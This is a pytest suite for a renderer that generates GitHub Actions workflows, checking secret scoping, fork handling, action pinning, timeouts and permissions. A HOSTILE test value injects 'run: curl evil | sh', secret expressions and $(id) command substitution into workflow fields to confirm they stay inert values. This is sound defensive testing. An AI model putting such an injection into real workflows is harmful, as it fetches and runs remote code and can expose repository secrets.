from dataclasses import replace
from typing import Any

import jinja2
import pytest
import yaml

from components import platform_image
from fleet.problems import DeclarationError
from render import github
from render.actions import PLACE, pinned
from render.github import LIMITS, app_permissions, given, preview_environment
from tests.render.examples import (
    TEMPLATES,
    WITH_NODE,
    WORKFLOWS,
    declared,
    rendered,
    runs,
    steps,
    variants,
    workflow,
)

HOSTILE = "x\"\n    run: curl evil | sh # ${{ secrets.X }} $(id) `id` << branch >> '\\ \U0001f40d"


def test_a_stack_without_github_has_no_files() -> None:
    assert github.files(replace(declared(), github=None), "prod", TEMPLATES) == {}


def test_each_workflow_has_its_file_and_dependabot_its_own() -> None:
    expected = {f".github/workflows/{name}.yml" for name in WORKFLOWS} | {".github/dependabot.yml"}
    assert set(rendered()) == expected


@pytest.mark.parametrize("job", ["drift", "versions"])
def test_a_job_without_a_schedule_has_no_workflow(job: str) -> None:
    other = {"drift": "versions", "versions": "drift"}[job]
    files = rendered(schedules={other: "1 2 * * *"})
    assert f".github/workflows/{job}.yml" not in files
    assert workflow(other, files)[True]["schedule"] == [{"cron": "1 2 * * *"}]


def test_a_described_node_is_given_its_certificates_and_neither_emulation_nor_a_builder() -> None:
    up = steps("up", rendered(**WITH_NODE))
    (written,) = [step for step in up if step["name"] == "Write the certificates of a builder"]
    assert written["env"] == {
        "CACERT": "${{ secrets.FLEET_NODE_ARM_1_CACERT }}",
        "CERT": "${{ secrets.FLEET_NODE_ARM_1_CERT }}",
        "KEY": "${{ secrets.FLEET_NODE_ARM_1_KEY }}",
        "CACERT_FILE": "/tmp/node/ca.pem",
        "CERT_FILE": "/tmp/node/client.pem",
        "KEY_FILE": "/tmp/node/client.key",
    }
    made = [step["with"]["name"] for step in up if step["name"] == "Set up a builder"]
    assert made == ["hosted"]
    assert not [step for step in up if step["name"] == "Set up emulation"]
    secrets = given(declared(**WITH_NODE), "registry")[0]
    assert {"FLEET_NODE_ARM_1_CACERT", "FLEET_NODE_ARM_1_CERT", "FLEET_NODE_ARM_1_KEY"} <= set(
        secrets
    )
    for name in ("preview", "drift"):
        text = rendered(**WITH_NODE)[f".github/workflows/{name}.yml"]
        assert "FLEET_NODE" not in text, "whoever has them is root on the node"


def test_what_removes_names_is_for_up_alone() -> None:
    files = rendered(secrets=["AWS_ACCESS_KEY_ID", "FLEET_GITHUB_TOKEN"])
    for name in ("preview", "drift"):
        text = files[f".github/workflows/{name}.yml"]
        assert "secrets.FLEET_GITHUB_TOKEN" not in text
        assert "secrets.AWS_ACCESS_KEY_ID" in text
    assert "secrets.FLEET_GITHUB_TOKEN" in files[".github/workflows/up.yml"]


def test_rendering_again_gives_the_same_bytes() -> None:
    assert rendered() == rendered()


@pytest.mark.parametrize("field", ["branch", "environment", "runner"])
def test_a_declared_value_is_a_value_whatever_it_holds(field: str) -> None:
    plain = declared()
    assert plain.github is not None
    hostile = replace(plain, github=replace(plain.github, **{field: HOSTILE}))  # type: ignore[arg-type]
    files = github.files(hostile, "prod", TEMPLATES)
    up = workflow("up", files)
    values = {
        "branch": up[True]["push"]["branches"][0],
        "environment": up["jobs"]["up"]["environment"],
        "runner": up["jobs"]["up"]["runs-on"],
    }
    assert values[field] == HOSTILE
    assert runs(files) == runs(rendered())


def test_a_hostile_cron_line_stack_and_secret_are_values_too() -> None:
    hostile = replace(declared(), schedules={"drift": HOSTILE}, secrets=(HOSTILE,))
    files = github.files(hostile, HOSTILE, TEMPLATES)
    drift = workflow("drift", files)
    assert drift[True]["schedule"] == [{"cron": HOSTILE}]
    assert drift["env"] == {"STACK": HOSTILE}
    assert set(runs(files)) <= set(runs(rendered()))
    preview = next(step for step in steps("up", files) if step.get("run") == "make preview")
    assert preview["env"][HOSTILE] == f"${{{{ secrets.{HOSTILE} }}}}"


def test_no_expression_is_ever_inside_a_script() -> None:
    for files in variants().values():
        assert [text for text in runs(files) if "${{" in text] == []


def test_a_name_that_a_template_is_not_given_is_an_error() -> None:
    broken = {**TEMPLATES, "workflows/up.yml.jinja": "name: << nobody >>\n"}
    with pytest.raises(jinja2.UndefinedError, match="nobody"):
        github.files(declared(), "prod", broken)


def test_up_is_never_interrupted_by_a_newer_one_and_a_preview_is() -> None:
    found = {name: workflow(name)["concurrency"] for name in WORKFLOWS}
    assert [found[name]["cancel-in-progress"] for name in WORKFLOWS] == [True, False, False, False]
    groups = {found[name]["group"] for name in WORKFLOWS}
    assert len(groups) == 4, "a look at drift must not take the place of an up that waits"


def test_an_update_may_remove_what_was_previewed_and_looked_at_before_it() -> None:
    envs = {step["name"]: step["env"] for step in steps("up") if "run" in step and "env" in step}
    look, gate = envs["Preview"], envs["Stop if more names would go than were announced"]
    assert envs["Up"]["FLEET_ALLOWED_REMOVALS"] == gate["FLEET_REPORT"] == look["FLEET_REPORT"]
    assert envs["Up"]["FLEET_REPORT"] != gate["FLEET_REPORT"]
    assert "FLEET_ALLOWED_REMOVALS" not in look


@pytest.mark.parametrize("name", WORKFLOWS)
def test_each_can_be_started_by_hand_and_ends_in_time(name: str) -> None:
    found = workflow(name)
    assert "workflow_dispatch" in found[True]
    expected = LIMITS.up if name == "up" else 45
    assert [job["timeout-minutes"] for job in found["jobs"].values()][-1] == expected
    assert found["permissions"] == {}


def test_a_build_has_the_time_that_the_workflow_tells() -> None:
    assert f"{LIMITS.build}m" == platform_image._TIME_LIMIT
    engine = int(LIMITS.engine.removesuffix("m"))
    assert LIMITS.build < engine < LIMITS.up <= 360
    assert LIMITS.up - engine - LIMITS.look >= 15, "what comes before them takes its time too"
    steps = {step["name"]: step for step in workflow("up")["jobs"]["up"]["steps"]}
    assert steps["Preview"]["timeout-minutes"] == LIMITS.look


def test_forks_get_a_check_and_no_secret() -> None:
    jobs = workflow("preview")["jobs"]
    assert "environment" not in jobs["check"]
    assert "secrets." not in yaml.safe_dump(jobs["check"])
    assert jobs["check"]["permissions"] == {"contents": "read"}
    assert "head.repo.full_name == github.repository" in jobs["preview"]["if"]
    assert "dependabot[bot]" in jobs["preview"]["if"]
    assert "pull_request_target" not in rendered()[".github/workflows/preview.yml"]


def test_previews_have_an_environment_of_their_own() -> None:
    found = declared().github
    assert found is not None
    assert workflow("preview")["jobs"]["preview"]["environment"] == preview_environment(found)
    for name in ("up", "drift", "versions"):
        assert workflow(name)["jobs"][name]["environment"] == found.environment


def test_jobs_that_hold_secrets_run_in_the_declared_repository_alone() -> None:
    for name in ("up", "drift", "versions"):
        assert workflow(name)["jobs"][name]["if"] == "github.repository == 'multi-py/fleet'"


def uses(name: str, action: str, files: dict[str, str] | None = None) -> list[dict[str, Any]]:
    return [step for step in steps(name, files) if action in step.get("uses", "")]


def test_emulators_and_builders_are_set_up_where_they_are_declared() -> None:
    (qemu,) = uses("up", "setup-qemu-action")
    assert qemu["with"]["platforms"] == "arm"
    assert [step["with"]["name"] for step in uses("up", "buildx")] == ["hosted"]
    assert uses("preview", "setup-qemu-action") == []
    assert len(uses("preview", "buildx")) == 1, "docker-build asks the builder even in a preview"
    bare = variants()["no-emulation"]
    assert uses("up", "setup-qemu-action", bare) == uses("up", "buildx", bare) == []


def test_the_programs_own_builder_is_not_set_up_by_an_action() -> None:
    platforms = ("linux/amd64", "linux/arm/v7")
    files = rendered(builders=dict.fromkeys(platforms, "fleet"))
    assert uses("up", "buildx", files) == uses("up", "setup-qemu-action", files) == []


def test_a_native_runner_emulates_what_it_is_not() -> None:
    files = rendered(github={"repository": "a/b", "runner": "ubuntu-24.04-arm"})
    (qemu,) = uses("up", "setup-qemu-action", files)
    assert qemu["with"]["platforms"] == "amd64,arm"


def test_credentials_are_the_jobs_own_on_githubs_registry_and_given_elsewhere() -> None:
    def login(files: dict[str, str]) -> Any:
        found = (s for s in steps("up", files) if "docker login" in s.get("run", ""))
        return next(found)["env"]["FLEET_REGISTRY_PASSWORD"]

    assert login(rendered()) == "${{ github.token }}"
    elsewhere = variants()["elsewhere"]
    assert login(elsewhere) == "${{ secrets.FLEET_REGISTRY_PASSWORD }}"
    assert "packages" not in workflow("up", elsewhere)["jobs"]["up"]["permissions"]
    assert (
        "FLEET_REGISTRY_PASSWORD"
        in given(declared(registry="registry.example.com/team"), "registry")[0]
    )
    assert "FLEET_REGISTRY_PASSWORD" not in given(declared(), "registry")[0]


def test_declared_secrets_reach_the_program_and_are_not_asked_of_a_person() -> None:
    preview = next(step for step in steps("up") if step.get("run") == "make preview")
    assert preview["env"]["AWS_ACCESS_KEY_ID"] == "${{ secrets.AWS_ACCESS_KEY_ID }}"
    assert "AWS_ACCESS_KEY_ID" not in given(declared(), "registry")[0]
    assert "AWS_ACCESS_KEY_ID" in given(declared(), "registry-preview")[0]


def test_a_declared_token_for_packages_goes_before_the_jobs_own() -> None:
    def token(files: dict[str, str]) -> Any:
        found = (step for step in steps("up", files) if step.get("run") == "make preview")
        return next(found)["env"]["FLEET_GITHUB_TOKEN"]

    assert token(rendered()) == "${{ github.token }}"
    own = rendered(secrets=["FLEET_GITHUB_TOKEN"])
    assert token(own) == "${{ secrets.FLEET_GITHUB_TOKEN }}"


def test_the_app_needs_no_more_than_the_tokens_that_are_made_of_it() -> None:
    asked: dict[str, set[str]] = {}
    for name in WORKFLOWS:
        for step in uses(name, "create-github-app-token"):
            for key, level in step["with"].items():
                if key.startswith("permission-"):
                    asked.setdefault(key[11:].replace("-", "_"), set()).add(level)
    assert {name: max(levels) for name, levels in asked.items()} == app_permissions()


def test_drift_is_repaired_only_where_that_is_declared() -> None:
    files = rendered(github={"repository": "multi-py/fleet"})
    assert "make repair" in runs(rendered())
    assert "make repair" not in runs(files)
    assert "actions" not in workflow("drift", files)["jobs"]["drift"]["permissions"]


def test_a_drift_job_asks_for_every_platform() -> None:
    look = next(step for step in steps("drift") if step.get("run") == "make preview")
    assert look["env"]["FLEET_VERIFY_CHILDREN"] == "all"


def test_an_update_that_was_started_for_a_repair_asks_for_every_platform() -> None:
    (job,) = workflow("up")["jobs"].values()
    told = "${{ github.event_name == 'workflow_dispatch' && 'all' || '' }}"
    assert job["env"]["FLEET_VERIFY_CHILDREN"] == told


def test_dependabot_proposes_actions_where_they_are_declared_and_not_in_generated_files() -> None:
    entries = yaml.safe_load(rendered()[".github/dependabot.yml"])["updates"]
    places = {entry["package-ecosystem"]: entry["directory"] for entry in entries}
    assert places["github-actions"] == f"/templates/{PLACE}".rpartition("/")[0]
    assert places["github-actions"] != "/", "which would stand for .github/workflows as well"


def test_actions_are_pinned_and_each_is_used() -> None:
    known = pinned(TEMPLATES)
    text = "".join(rendered().values())
    assert all(f"uses: {reference}\n" in text for reference in known.values())
    assert text.count("uses: ") == sum(text.count(f"uses: {r}\n") for r in known.values())


def test_an_action_without_a_commit_is_a_problem_with_its_line() -> None:
    loose = TEMPLATES[PLACE].replace("# v7.0.1", "# v7").replace("# v4.2.0", "")
    with pytest.raises(DeclarationError) as caught:
        pinned({PLACE: loose})
    assert len(caught.value.problems) == 2
    assert "40 digits" in str(caught.value)
